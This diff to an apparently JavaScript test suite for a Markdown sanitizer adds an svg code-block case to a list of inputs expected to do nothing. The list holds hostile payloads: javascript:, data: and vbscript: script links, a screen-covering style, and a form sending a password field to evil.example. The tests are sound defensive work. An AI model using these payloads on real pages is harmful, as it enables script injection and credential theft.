@@ -19,6 +19,7 @@ it.each([
   ['a javascript: autolink', '<javascript:alert(1)>'],
   ['a data: link', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
   ['a reference to a bad link', '[x][y]\n\n[y]: vbscript:alert(1)'],
+  ['a picture of the catalogue', '```svg\n<svg viewBox="0 0 9 9"><title>x</title></svg>\n```'],
   ['a style', '<p style="position:fixed;inset:0">over all</p>'],
   ['a form', '<form action="https://evil.example"><input name="password"></form>'],
 ])('%s does nothing', async (_what, text) => {
